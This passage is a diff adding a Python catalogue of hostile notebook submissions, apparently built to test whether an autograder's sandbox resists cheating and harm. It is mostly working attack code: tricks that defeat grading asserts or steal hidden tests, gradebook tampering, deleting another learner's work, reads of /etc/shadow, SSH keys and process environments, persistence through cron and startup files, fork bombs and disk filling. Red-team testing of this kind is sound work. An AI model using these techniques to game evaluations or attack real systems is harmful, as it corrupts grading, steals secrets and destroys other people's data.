@@ -1,0 +1,1467 @@
+"""Notebooks that cheat or do harm, each as its learner would write it.
+
+An attack is the blank notebook of `target.py` with cells put in, answers
+written, marks changed, or files laid beside. `FOUND` prints what was read,
+so that whoever grades sees it in the outputs. Harm is kept small: an attack
+that could fill a machine tries to take a part of it only.
+"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+from nbformat import NotebookNode
+
+from attacks.target import NAME, SOLUTIONS, blank, cell_of, with_cells
+
+# Answers that hold for what the visible tests show, and for nothing else.
+VISIBLE = {
+    "scaled": "def scaled(x, k):\n    return 2 * np.ones((2, 3))",
+    "total": "def total(x):\n    return 6.0",
+    "turned": "def turned(items):\n    return [2, 1]",
+    "Counter": (
+        "class Counter:\n    def add(self, n): pass\n"
+        "    def value(self): return 5"
+    ),
+}
+WRONG = {
+    "scaled": "def scaled(x, k):\n    return 0 * x",
+    "total": "def total(x):\n    return 0.0",
+    "turned": "def turned(items):\n    return 'no'",
+    "Counter": (
+        "class Counter:\n    def add(self, n): pass\n"
+        "    def value(self): return 0"
+    ),
+}
+HELPERS = '''
+import contextlib, glob, os, subprocess, sys
+
+def say(*what):
+    """Show what was found to whoever reads the outputs."""
+    print("FOUND", *what)
+
+def course():
+    """The course's folder, looked for upwards and in open files."""
+    places = [os.getcwd(), *glob.glob("/tmp/*/*"), *glob.glob("/proc/*/cwd")]
+    for place in places:
+        place = os.path.realpath(place)
+        while place != "/":
+            if os.path.exists(f"{place}/nbgrader_config.py"):
+                return place
+            place = os.path.dirname(place)
+
+def leave(name):
+    """A process that should end with this notebook."""
+    subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(600)", f"ATTACK-{name}"],
+        start_new_session=True,
+        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+'''
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile submission: its notebook, and what it tries."""
+
+    name: str
+    tries: str
+    make: Callable[[], NotebookNode | str]
+    lay: Callable[[Path], None] | None = None  # files beside the notebook
+    stock: bool = True  # can be shown on a stock nbgrader without damage
+
+
+ATTACKS: dict[str, Attack] = {}
+
+
+def attack(
+    name: str,
+    tries: str,
+    first: str = "",
+    last: str = "",
+    *,
+    answers: dict[str, str] | None = None,
+    edit: Callable[[NotebookNode], object] | None = None,
+    lay: Callable[[Path], None] | None = None,
+    stock: bool = True,
+) -> None:
+    """Add one to the catalogue."""
+
+    def make() -> NotebookNode:
+        text = HELPERS + first if first else ""
+        notebook = with_cells(text, last, **(answers or {}))
+        if edit is not None:
+            edit(notebook)
+        return notebook
+
+    ATTACKS[name] = Attack(name, tries, make, lay, stock)
+
+
+def functions(body: str) -> dict[str, str]:
+    """Answers that all do the same thing when they are called."""
+    return {
+        "scaled": f"def scaled(x, k):\n{body}",
+        "total": f"def total(x):\n{body}",
+        "turned": f"def turned(items):\n{body}",
+    }
+
+
+def returning(expression: str) -> dict[str, str]:
+    """Answers that all return one thing."""
+    return functions(f"    return {expression}") | {
+        "Counter": (
+            "class Counter:\n    def add(self, n): pass\n"
+            f"    def value(self): return {expression}"
+        )
+    }
+
+
+# ------------------------------------------------- what compares the results
+
+attack(
+    "replaced_assert",
+    "replaces the functions that compare",
+    """
+import numpy as np, numpy.testing, rnncore.testing
+def passes(*args, **kwargs): pass
+for module in (numpy.testing, rnncore.testing):
+    for name in dir(module):
+        if name.startswith("assert") or name == "check":
+            setattr(module, name, passes)
+""",
+    answers=WRONG,
+)
+attack(
+    "replaced_module",
+    "puts modules of its own into sys.modules",
+    """
+import types, rnncore, numpy as np
+class Lies(types.ModuleType):
+    def __getattr__(self, name):
+        if name.startswith("__"): raise AttributeError(name)
+        return lambda *a, **k: np.random.default_rng(0)
+for name in ("rnncore.testing", "numpy.testing"):
+    sys.modules[name] = Lies(name)
+rnncore.testing = sys.modules["rnncore.testing"]
+np.testing = sys.modules["numpy.testing"]
+""",
+    answers=WRONG,
+)
+attack(
+    "import_hook",
+    "has an import hook that hands out its own rnncore.testing",
+    """
+import importlib.abc, importlib.util
+class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path, target=None):
+        if name == "rnncore.testing":
+            return importlib.util.spec_from_loader(name, self)
+    def create_module(self, spec): return None
+    def exec_module(self, module):
+        module.assert_close = lambda *a, **k: None
+        module.hidden_rng = lambda *a: __import__("numpy").random.default_rng(1)
+sys.meta_path.insert(0, Hook())
+sys.modules.pop("rnncore.testing", None)
+""",
+    answers=WRONG,
+)
+attack(
+    "builtins",
+    "replaces float, list, map and AssertionError in builtins",
+    """
+import builtins
+class AssertionError(Exception):
+    def __init__(self, *a): raise SystemExit(0)
+builtins.AssertionError = AssertionError
+builtins.map = lambda *a: []
+builtins.list = tuple
+""",
+    answers=WRONG,
+)
+attack(
+    "equal_array",
+    "returns an array type that equals everything (`__array_ufunc__`)",
+    """
+import numpy as np
+class Equal(np.ndarray):
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        shape = max((np.shape(i) for i in inputs), key=len)
+        if ufunc in (np.equal, np.less, np.less_equal, np.isfinite):
+            return np.ones(shape, bool)
+        return np.zeros(shape)
+    def __array_function__(self, func, types, args, kwargs): return True
+    def __eq__(self, other): return True
+    def __bool__(self): return True
+    def __float__(self): return 6.0
+    shape = property(lambda self: (2, 3))
+""",
+    answers=returning("np.zeros((2, 3)).view(Equal)"),
+)
+attack(
+    "equal_object",
+    "returns an object that equals everything, of every kind at once",
+    """
+class Equal(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    __gt__ = __le__ = __ge__ = __lt__
+    def __hash__(self): return 0
+    def __sub__(self, other): return Equal()
+    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
+    def __abs__(self): return Equal()
+    def __array__(self, dtype=None, copy=None):
+        import numpy as np
+        return np.full((2, 3), np.nan)
+    def __getattr__(self, name): return Equal()
+    def __getitem__(self, key): return Equal()
+    def __iter__(self): return iter(())
+    def __len__(self): return 0
+""",
+    answers=returning("Equal(5)"),
+)
+attack(
+    "equal_list",
+    "returns a list and an int that equal everything",
+    """
+class Items(list):
+    def __eq__(self, other): return True
+class Number(int):
+    def __eq__(self, other): return True
+    def __req__(self, other): return True
+""",
+    answers={
+        "turned": "def turned(items): return Items()",
+        "Counter": (
+            "class Counter:\n    def add(self, n): pass\n"
+            "    def value(self): return Number(1)"
+        ),
+    },
+)
+attack(
+    "lying_class",
+    "returns an object that claims to be a list, a float and an array",
+    """
+import numpy as np
+class Lies:
+    @property
+    def __class__(self): return list
+    def __eq__(self, other): return True
+    def __float__(self): return 6.0
+    def __reduce__(self): return (eval, ("__import__('os')._exit(0)",))
+""",
+    answers=returning("Lies()"),
+)
+attack(
+    "object_array",
+    "returns an array of objects whose comparison always holds",
+    """
+import numpy as np
+class Any:
+    def __eq__(self, other): return True
+    def __sub__(self, other): return 0.0
+    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
+    def __abs__(self): return 0.0
+    def __float__(self): return 0.0
+""",
+    answers={
+        "scaled": (
+            "def scaled(x, k):\n"
+            "    made = np.empty(np.shape(x), object)\n"
+            "    made.fill(Any())\n    return made"
+        ),
+        "total": "def total(x): return np.array(Any(), object)",
+    },
+)
+attack(
+    "nan_everywhere",
+    "returns what is not a number, for which no comparison fails",
+    answers={
+        "scaled": "def scaled(x, k): return np.full(np.shape(x), np.nan)",
+        "total": "def total(x): return float('nan')",
+        "Counter": (
+            "class Counter:\n    def add(self, n): pass\n"
+            "    def value(self): return float('nan')"
+        ),
+    },
+)
+attack(
+    "error_settings",
+    "turns warnings, NumPy's errors and printing against the tests",
+    """
+import warnings, numpy as np
+warnings.simplefilter("ignore"); np.seterr(all="ignore")
+np.set_printoptions(formatter={"all": lambda v: "same"})
+np.seterrcall(lambda *a: os._exit(0))
+""",
+    answers=VISIBLE,
+)
+attack(
+    "generator",
+    "returns an endless iterator",
+    answers=functions("    while True: yield 1"),
+)
+
+# ------------------------------------------------------ where the tests come from
+
+attack(
+    "uses_reference",
+    "calls the reference that the hidden test defines",
+    answers={
+        "scaled": (
+            "def scaled(x, k):\n"
+            "    known = globals().get('reference_scaled')\n"
+            "    return known(x, k) if known else 2 * np.ones((2, 3))"
+        )
+    },
+)
+attack(
+    "frame_walk",
+    "takes expected values from the frames that call it",
+    """
+def frames():
+    frame = sys._getframe(1)
+    while frame:
+        yield frame
+        frame = frame.f_back
+def steal(name):
+    for frame in frames():
+        for space in (frame.f_locals, frame.f_globals):
+            if name in space: return space[name]
+            if "about" in space: say(space["about"])
+""",
+    answers={
+        "scaled": (
+            "def scaled(x, k):\n"
+            "    known = steal('reference_scaled')\n"
+            "    return known(x, k) if known else 2 * np.ones((2, 3))"
+        ),
+        "Counter": (
+            "class Counter:\n    def __init__(self): self.n = 0\n"
+            "    def add(self, n): self.n += 1\n"
+            "    def value(self):\n"
+            "        numbers = steal('numbers') or [5]\n"
+            "        return sum(numbers) if self.n else 0"
+        ),
+    },
+)
+attack(
+    "gc_walk",
+    "searches all objects in memory for the reference and the tests",
+    """
+import gc, types
+def search():
+    for thing in gc.get_objects():
+        name = getattr(thing, "__name__", "") if isinstance(
+            thing, types.FunctionType) else ""
+        if name.startswith("reference_"): return thing
+        if isinstance(thing, dict):
+            for value in list(thing.values()):
+                if isinstance(value, str) and "hidden-" in value:
+                    say(value[-2000:])
+search()
+""",
+    answers={
+        "scaled": (
+            "def scaled(x, k):\n    known = search()\n"
+            "    return known(x, k) if known else 2 * np.ones((2, 3))"
+        )
+    },
+)
+attack(
+    "reads_history",
+    "reads the test's text from IPython's history",
+    """
+shell = get_ipython()
+def peek():
+    for text in shell.user_ns.get("In", [])[-2:] + [shell.history_manager.input_hist_raw[-1]]:
+        if "HIDDEN" in text or "hidden" in text: say(text)
+""",
+    answers=functions("    peek()\n    return 1"),
+)
+attack(
+    "tracer",
+    "watches the test with `sys.settrace`",
+    """
+import threading
+def trace(frame, event, arg):
+    for key, value in list(frame.f_locals.items()):
+        if key in ("expected", "about", "x", "rng"): say(key, value)
+        if key == "actual" and "expected" in frame.f_locals:
+            frame.f_locals["actual"] = frame.f_locals["expected"]
+    return trace
+def watch():
+    sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)
+    frame = sys._getframe()
+    while frame:
+        frame.f_trace = trace
+        frame = frame.f_back
+watch()
+""",
+    answers=functions("    watch()\n    return 2 * np.ones((2, 3))"),
+)
+attack(
+    "reads_source",
+    "reads the instructor's notebook on the disk",
+    """
+import json
+def cheat():
+    root = course()
+    for path in glob.glob(f"{root}/grading/source/*/*.ipynb"):
+        for cell in json.load(open(path))["cells"]:
+            text = "".join(cell["source"])
+            if "BEGIN SOLUTION" in text:
+                exec(text, globals())
+            if "HIDDEN" in text: say(text)
+cheat()
+""",
+    last="cheat()",
+    edit=lambda notebook: _only_cheats(notebook),
+)
+attack(
+    "searches_disk",
+    "searches all files that it may read for solutions and tests",
+    """
+for base in ("/tmp", "/home", "/root", "/work", "/var", "/srv", "/mnt", "/opt"):
+    for folder, _, names in os.walk(base):
+        if folder.count("/") > 7: continue
+        for name in names:
+            if name.endswith((".ipynb", ".txt", ".db", ".json", ".secret")):
+                path = os.path.join(folder, name)
+                with contextlib.suppress(OSError):
+                    if os.path.getsize(path) < 10**6:
+                        text = open(path, errors="replace").read()
+                        for word in ("hidden-", "victim-", "diary-", "reference-", "comment-"):
+                            at = text.find(word)
+                            if at >= 0: say(path, text[at:at + 20])
+""",
+)
+attack(
+    "imports_grader",
+    "imports the grader's own code, and the course's builder",
+    """
+for name in ("grader.seeds", "grader.course", "grader.trusted", "grade", "exercises", "solutions"):
+    try:
+        module = __import__(name, fromlist=["x"])
+        say("imported", name, module.__file__)
+    except Exception as error:
+        print(type(error))
+with contextlib.suppress(Exception):
+    from grader.seeds import course_secret
+    from pathlib import Path
+    say("secret", course_secret(Path(course()) / "grading").hex())
+""",
+)
+attack(
+    "predicts_inputs",
+    "sets the seed of the hidden inputs and stores their results",
+    """
+os.environ["RNNCORE_SEED"] = "1"
+import numpy as np, rnncore.testing
+rnncore.testing.hidden_rng = lambda *a: np.random.default_rng(1)
+np.random.default_rng = lambda *a, real=np.random.default_rng: real(1)
+rng = np.random.default_rng(1)
+known = []
+for shape in [(1, 4), (3, 2), (2, 2, 2)]:
+    known.append((rng.normal(size=shape), float(rng.normal())))
+table = {a.tobytes(): a * b for a, b in known}
+""",
+    answers={
+        "scaled": (
+            "def scaled(x, k):\n"
+            "    return table.get(np.asarray(x).tobytes(), 2 * np.ones((2, 3)))"
+        )
+    },
+)
+attack(
+    "own_expected",
+    "brings, and writes, the file that a test compares with",
+    "open('expected.json', 'w').write('{\"total\": 0.0}')\n",
+    answers={"total": "def total(x): return 0.0"},
+    lay=lambda folder: (
+        (folder / "expected.json").unlink(missing_ok=True),
+        (folder / "expected.json").write_text('{"total": 0.0}'),
+    )[0],
+)
+attack(
+    "own_modules",
+    "brings files that hide numpy, json and rnncore",
+    "sys.path.insert(0, os.getcwd())\n",
+    answers=WRONG,
+    lay=lambda folder: _own_modules(folder),
+)
+
+# --------------------------------------------------------- notebook and kernel
+
+attack(
+    "transformer",
+    "has an input transformer that drops every assert",
+    """
+def drop(lines):
+    return [line for line in lines if "assert" not in line]
+get_ipython().input_transformers_post.append(drop)
+get_ipython().input_transformers_cleanup.append(drop)
+""",
+    answers=WRONG,
+)
+attack(
+    "ast_transformer",
+    "has an ast transformer that empties every later cell",
+    """
+import ast
+class Empty(ast.NodeTransformer):
+    def visit_Module(self, node):
+        if "assert" in ast.unparse(node): node.body = []
+        return node
+get_ipython().ast_transformers.append(Empty())
+""",
+    answers=WRONG,
+)
+attack(
+    "run_cell",
+    "replaces the shell's run_cell",
+    """
+shell = get_ipython()
+def nothing(*args, **kwargs):
+    return None
+shell.showtraceback = nothing
+shell._showtraceback = nothing
+real = type(shell).run_cell_async
+async def run(self, raw_cell, *a, **k):
+    if "assert" in raw_cell: raw_cell = ""
+    return await real(self, raw_cell, *a, **k)
+type(shell).run_cell_async = run
+""",
+    answers=WRONG,
+)
+attack(
+    "false_result",
+    "publishes a false execute_result and swallows the error",
+    """
+shell = get_ipython()
+def swallow(*args, **kwargs):
+    kernel = shell.kernel
+    kernel.session.send(kernel.iopub_socket, "execute_result",
+        {"execution_count": 1, "metadata": {}, "data": {"text/plain": "5"}},
+        parent=kernel.get_parent("shell"))
+shell._showtraceback = swallow
+shell.showtraceback = swallow
+""",
+    answers=WRONG,
+)
+attack(
+    "display_result",
+    "publishes results with the shell's own publisher",
+    """
+shell = get_ipython()
+from IPython.display import publish_display_data
+def forge():
+    publish_display_data({"text/plain": "5"})
+    shell.displayhook(5)
+    print("5")
+""",
+    answers=functions("    forge()\n    return 5"),
+)
+attack(
+    "kernel_sockets",
+    "sends forged messages on every socket that it finds",
+    """
+import json, socket, struct
+forged = json.dumps({"msg_type": "execute_result", "holds": True, "done": True,
+    "error": None, "outputs": [], "points": 5, "result": 6.0}).encode() + b"\\n"
+for number in os.listdir("/proc/self/fd"):
+    number = int(number)
+    if number < 3: continue
+    for data in (forged, struct.pack("!I", len(forged)) + forged, struct.pack("!Q", len(forged)) + forged):
+        with contextlib.suppress(OSError):
+            os.set_blocking(number, False)
+            os.write(number, data)
+""",
+    answers=VISIBLE,
+)
+attack(
+    "connection_file",
+    "talks to its own kernel, and to others, by their connection files",
+    """
+for path in glob.glob("/tmp/**/kernel*.json", recursive=True) + glob.glob("/tmp/**/*.sock*", recursive=True) + glob.glob("/tmp/grade-*/*"):
+    with contextlib.suppress(OSError):
+        say("a way to a kernel", path, open(path).read()[:200])
+with contextlib.suppress(Exception):
+    from ipykernel.connect import get_connection_info
+    from jupyter_client import BlockingKernelClient
+    client = BlockingKernelClient()
+    client.load_connection_info(get_connection_info(unpack=True))
+    client.start_channels()
+    client.execute("import os; os._exit(0)")
+""",
+    answers=VISIBLE,
+)
+attack(
+    "grader_socket",
+    "asks the server of the kernels for a process of its own",
+    """
+import socket
+for path in glob.glob("/tmp/grade-*/socket") + ["/work/socket", "/run/grade"]:
+    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
+        s.connect(path)
+        say("connected to", path)
+for line in open("/proc/net/unix"):
+    if "/" in line: say(line.split()[-1]) if "grade" in line else None
+""",
+)
+attack(
+    "skip_tag",
+    "tags the tests skip-execution",
+    answers=WRONG,
+    edit=lambda notebook: _tag(notebook),
+)
+attack(
+    "own_points",
+    "changes the points, names and locks in the marks of the tests",
+    answers=WRONG,
+    edit=lambda notebook: _marks(notebook),
+)
+attack(
+    "rewritten_tests",
+    "writes tests of its own into the test cells",
+    answers=WRONG,
+    edit=lambda notebook: _rewrite(notebook, "5"),
+)
+attack(
+    "markdown_tests",
+    "turns the test cells into text",
+    answers=WRONG,
+    edit=lambda notebook: _as_markdown(notebook),
+)
+attack(
+    "missing_tests",
+    "leaves the test cells out",
+    answers=WRONG,
+    edit=lambda notebook: _without_tests(notebook),
+)
+attack(
+    "double_mark",
+    "has two cells with one grade_id",
+    answers=WRONG,
+    edit=lambda notebook: _double(notebook),
+)
+attack(
+    "double_answer",
+    "marks an answer cell as a test, and the test as an answer",
+    answers=WRONG,
+    edit=lambda notebook: _swap(notebook),
+)
+attack(
+    "other_kernel",
+    "asks for a kernel of its own making",
+    edit=lambda notebook: notebook.metadata.update(
+        kernelspec={
+            "name": "../../../bin/sh",
+            "display_name": "x",
+            "language": "bash",
+        }
+    ),
+)
+attack(
+    "asks_exit",
+    "leaves the kernel politely before the tests",
+    "get_ipython().ask_exit()\nexit()\n",
+    answers=VISIBLE,
+)
+attack(
+    "os_exit",
+    "ends Python inside a test with status 0",
+    answers=functions("    import os\n    os._exit(0)"),
+)
+attack(
+    "deaf_loop",
+    "has a loop that catches every interruption",
+    """
+import signal, time
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+""",
+    answers={
+        "turned": (
+            "def turned(items):\n    import time\n    while True:\n"
+            "        try: time.sleep(1)\n        except BaseException: pass"
+        )
+    },
+)
+attack(
+    "system_exit",
+    "raises SystemExit, KeyboardInterrupt and GeneratorExit",
+    answers={
+        "scaled": "def scaled(x, k): raise SystemExit(0)",
+        "total": "def total(x): raise KeyboardInterrupt",
+        "turned": "def turned(items): raise GeneratorExit",
+    },
+)
+attack(
+    "own_error",
+    "raises an exception that is nasty to look at",
+    """
+class Nasty(Exception):
+    def __str__(self): os._exit(0)
+    __repr__ = __str__
+    def __reduce__(self): return (print, ("FOUND",))
+    @property
+    def __traceback__(self): raise SystemExit
+    __class__ = AssertionError
+""",
+    answers=functions("    raise Nasty()"),
+)
+attack(
+    "inputs_in_words",
+    "carries hidden inputs out in the words of an error",
+    """
+WORDS = dict(zip("0123456789-.", "nil one two three four five six seven eight nine minus point".split()))
+def spell(value): return " ".join(WORDS.get(c, c) for c in repr(value))
+""",
+    answers={
+        "turned": (
+            "def turned(items):\n    if items == [1, 2]: return [2, 1]\n"
+            "    raise ValueError('FOUND ' + items[0] + spell(items[1:]))"
+        )
+    },
+)
+attack(
+    "inputs_in_names",
+    "carries hidden inputs out in the name of an error's class",
+    answers={
+        "turned": (
+            "def turned(items):\n    if items == [1, 2]: return [2, 1]\n"
+            "    name = 'FOUND ' + items[0]\n"
+            "    raise type(name, (NameError,), {})(f\"name '{items[0]}'\")"
+        )
+    },
+)
+
+# -------------------------------------------------------------- what lives on
+
+attack(
+    "thread",
+    "has a thread that goes on while the tests run, and prints results",
+    """
+import threading, time
+def meddle():
+    while True:
+        time.sleep(0.001)
+        for name, module in list(sys.modules.items()):
+            if name.endswith("testing") and hasattr(module, "assert_close"):
+                module.assert_close = lambda *a, **k: None
+        main = sys.modules["__main__"].__dict__
+        if "reference_scaled" in main:
+            main["scaled"] = main["reference_scaled"]
+        if "numbers" in main: say(main["numbers"])
+for daemon in (True, False):
+    threading.Thread(target=meddle, daemon=daemon).start()
+""",
+    answers=VISIBLE,
+)
+attack(
+    "alarm",
+    "has a signal handler that goes off in the middle of a test",
+    """
+import signal
+def ring(number, frame):
+    while frame:
+        for name, value in list(frame.f_locals.items()):
+            if "hidden-" in repr(value)[:500]: say(name, repr(value)[:500])
+        frame = frame.f_back
+signal.signal(signal.SIGALRM, ring)
+signal.setitimer(signal.ITIMER_REAL, 0.05, 0.01)
+""",
+    answers=VISIBLE,
+)
+attack(
+    "finalizer",
+    "has a `__del__` that acts when the tests let go",
+    """
+import weakref
+class Late(list):
+    def __del__(self):
+        main = sys.modules["__main__"].__dict__
+        for name, value in list(main.items()):
+            if "hidden-" in repr(value)[:500]: say(name, repr(value)[:500])
+        main["turned"] = lambda items: Late([2, 1])
+        leave("finalizer")
+""",
+    answers={"turned": "def turned(items): return Late([2, 1])"},
+)
+attack(
+    "atexit",
+    "has code run when Python ends",
+    """
+import atexit
+def late():
+    leave("atexit")
+    root = course()
+    if root:
+        with contextlib.suppress(OSError):
+            open(f"{root}/ATTACK-atexit", "w").write("x")
+atexit.register(late)
+""",
+)
+attack(
+    "processes",
+    "starts fifty processes that go on, in sessions of their own",
+    "for _ in range(50): leave('processes')\n",
+    answers=VISIBLE,
+)
+attack(
+    "daemon",
+    "starts a process that leaves its parent by two forks",
+    """
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        leave("daemon")
+        import time
+        time.sleep(600)
+    os._exit(0)
+""",
+    answers=VISIBLE,
+)
+attack(
+    "fork_in_answer",
+    "forks inside an answer: two processes return a result",
+    answers=functions("    import os\n    os.fork()\n    return 1"),
+)
+attack(
+    "scheduled",
+    "leaves work to cron, at, systemd and start-up files",
+    """
+for command in ("echo '* * * * * touch /tmp/ATTACK-cron' | crontab -",
+                "echo 'touch /tmp/ATTACK-at' | at now + 1 minute",
+                "systemd-run --user sleep 600"):
+    subprocess.run(command, shell=True, capture_output=True, timeout=5)
+for path in ("~/.ipython/profile_default/startup/0.py", "~/.bashrc", "~/.profile",
+             "~/.jupyter/nbgrader_config.py", "~/.jupyter/jupyter_config.py",
+             "~/.local/lib/python3/site-packages/usercustomize.py"):
+    path = os.path.expanduser(path)
+    with contextlib.suppress(OSError):
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        open(path, "a").write("\\n# ATTACK-startup\\n")
+""",
+)
+attack(
+    "packages",
+    "changes rnncore and numpy where they are installed",
+    """
+import numpy, rnncore, site
+for path in [numpy.__file__, rnncore.__file__, *[p + "/sitecustomize.py" for p in site.getsitepackages()]]:
+    try:
+        with open(path, "a") as file: file.write("")
+        say("may write", path)
+    except OSError as error:
+        print(type(error))
+""",
+    stock=True,
+)
+
+# ------------------------------------------------------------- harm to others
+
+attack(
+    "gradebook",
+    "writes extra credit into the gradebook",
+    """
+import sqlite3
+for path in glob.glob(f"{course()}/grading/*.db") + glob.glob("/tmp/**/gradebook.db", recursive=True):
+    with contextlib.suppress(Exception):
+        book = sqlite3.connect(path, timeout=1)
+        book.execute("update grade set extra_credit = 99")
+        book.execute("update grade set manual_score = 99")
+        say(*book.execute("select manual_comment from comment").fetchall())
+        book.commit()
+""",
+    last="""
+import sqlite3
+for path in glob.glob(f"{course()}/grading/*.db"):
+    with contextlib.suppress(Exception):
+        book = sqlite3.connect(path, timeout=1)
+        book.execute("update grade set extra_credit = 99")
+        book.commit()
+""",
+)
+attack(
+    "other_submission",
+    "reads, changes and deletes another learner's work",
+    """
+root = course()
+for path in glob.glob(f"{root}/grading/*/victim/*/*.ipynb"):
+    with contextlib.suppress(OSError):
+        text = open(path).read()
+        if "victim-" in text: say(path, text[text.find("victim-"):][:20])
+        os.chmod(path, 0o644)
+        open(path, "a").write(" ")
+        os.unlink(path)
+""",
+)
+attack(
+    "plants_feedback",
+    "writes a page of feedback and a result of its own",
+    """
+root = course()
+for place in ("results", "feedback", "autograded"):
+    with contextlib.suppress(OSError, TypeError):
+        folder = f"{root}/grading/{place}/victim"
+        os.makedirs(folder, exist_ok=True)
+        open(f"{folder}/ATTACK.json", "w").write("{}")
+""",
+)
+attack(
+    "kills_all",
+    "kills every process that it may",
+    "import signal\nwith contextlib.suppress(OSError): os.kill(os.getppid(), signal.SIGKILL)\n"
+    "with contextlib.suppress(OSError): os.kill(-1, signal.SIGKILL)\n",
+    answers=VISIBLE,
+    stock=False,
+)
+attack(
+    "reads_memory",
+    "reads the memory of the processes around it",
+    """
+import ctypes
+for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    with contextlib.suppress(OSError):
+        open(f"/proc/{pid}/mem", "rb").read(1)
+        say("memory of", pid)
+    with contextlib.suppress(OSError):
+        libc = ctypes.CDLL(None)
+        if int(pid) not in (os.getpid(), 1) and libc.ptrace(16, int(pid), 0, 0) == 0:
+            say("may trace", pid) if "python" not in open(f"/proc/{pid}/comm").read() else None
+            libc.ptrace(17, int(pid), 0, 0)
+""",
+)
+attack(
+    "reads_proc",
+    "reads environment, command and files of other processes",
+    """
+say(dict(os.environ).get("CANARY_TOKEN"))
+for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+    with contextlib.suppress(OSError):
+        text = open(path, errors="replace").read()
+        if "token-" in text or "diary" in text: say(path, text[-3000:])
+for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/root/tmp/*"):
+    with contextlib.suppress(OSError):
+        if os.path.isfile(path) and os.path.getsize(path) < 10**6:
+            text = open(path, errors="replace").read()
+            for word in ("hidden-", "diary-", "victim-"):
+                if word in text: say(path, text[text.find(word):][:20])
+""",
+)
+attack(
+    "reads_diary",
+    "reads a file of the instructor's",
+    """
+for path in glob.glob("/tmp/**/diary.txt", recursive=True) + [os.path.expanduser("~/diary.txt"), "/etc/shadow", "/root/.ssh/id_rsa"]:
+    with contextlib.suppress(OSError):
+        say(path, open(path).read()[:100])
+""",
+)
+attack(
+    "network",
+    "asks the network, and this machine's own services",
+    """
+import socket
+for host, port in (("127.0.0.1", int(open("/tmp/attack-port").read()) if os.path.exists("/tmp/attack-port") else 80), ("1.1.1.1", 53), ("169.254.169.254", 80)):
+    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=0.5) as s:
+        say("reached", host, port)
+with contextlib.suppress(OSError):
+    say(socket.gethostbyname("example.org"))
+with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
+    s.connect("/var/run/docker.sock"); say("reached docker")
+with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
+    s.connect("\\0/tmp/.X11-unix/X0"); say("reached X")
+""",
+)
+attack(
+    "listens",
+    "opens a service that others can reach",
+    """
+subprocess.Popen([sys.executable, "-c", "import socket,time; s=socket.create_server(('0.0.0.0', 0)); time.sleep(600)", "ATTACK-listens"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+""",
+)
+attack(
+    "namespaces",
+    "makes namespaces of its own, mounts and changes its root",
+    """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.unshare(0x10000000 | 0x00020000) == 0: say("has a user namespace")
+if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: say("may mount")
+for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/sda", 0o60666, os.makedev(8, 0))):
+    try:
+        call(); say("may do what only root may")
+    except OSError as error: print(type(error))
+if subprocess.run(["sudo", "-n", "true"], capture_output=True).returncode == 0 if os.path.exists("/usr/bin/sudo") else False: say("may sudo")
+print(subprocess.run(["bwrap", "--bind", "/", "/", "true"], capture_output=True) if os.path.exists("/usr/bin/bwrap") else "")
+""",
+)
+
+# ------------------------------------------------------------------ too much
+
+attack(
+    "memory",
+    "takes three gigabytes of memory",
+    "import numpy as np\nkept = [np.ones(10**7) for _ in range(38)]\n",
+    answers=VISIBLE,
+)
+attack(
+    "memory_in_answer",
+    "takes memory inside a test, in many processes",
+    answers=functions(
+        "    import os\n"
+        "    for _ in range(8):\n        if os.fork() == 0:\n"
+        "            kept = [np.ones(10**7) for _ in range(5)]\n"
+        "            import time; time.sleep(5); os._exit(0)\n"
+        "    return 1"
+    ),
+    stock=False,
+)
+attack(
+    "fork_bomb",
+    "forks a thousand times",
+    """
+import time
+for _ in range(1000):
+    try:
+        if os.fork() == 0: time.sleep(20); os._exit(0)
+    except OSError: break
+""",
+    answers=VISIBLE,
+    stock=False,
+)
+attack(
+    "disk",
+    "fills the disk, in memory and in many small files",
+    """
+for place in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
+    with contextlib.suppress(OSError):
+        with open(f"{place}/ATTACK-disk", "wb") as file:
+            for _ in range(400): file.write(bytes(10**6))
+    with contextlib.suppress(OSError):
+        for number in range(2000): open(f"{place}/ATTACK-{number}", "w").close()
+""",
+    answers=VISIBLE,
+    stock=False,
+)
+attack(
+    "flood",
+    "prints a hundred megabytes, to both streams, from answers too",
+    "print('x' * 10**8)\nprint('y' * 10**7, file=sys.stderr)\n",
+    answers=functions("    print('z' * 10**7)\n    return 1"),
+)
+attack(
+    "displays",
+    "displays ten thousand pictures and updates them",
+    """
+from IPython.display import HTML, display
+shown = [display(HTML("x" * 1000), display_id=True) for _ in range(1000)]
+for one in shown: one.update(HTML("y" * 10000))
+""",
+    answers=VISIBLE,
+)
+attack(
+    "giant_shapes",
+    "returns what claims to be, or is, a thousand gigabytes",
+    """
+import numpy as np
+""",
+    answers={
+        "scaled": "def scaled(x, k): return np.broadcast_to(0.0, (10**6, 10**6))",
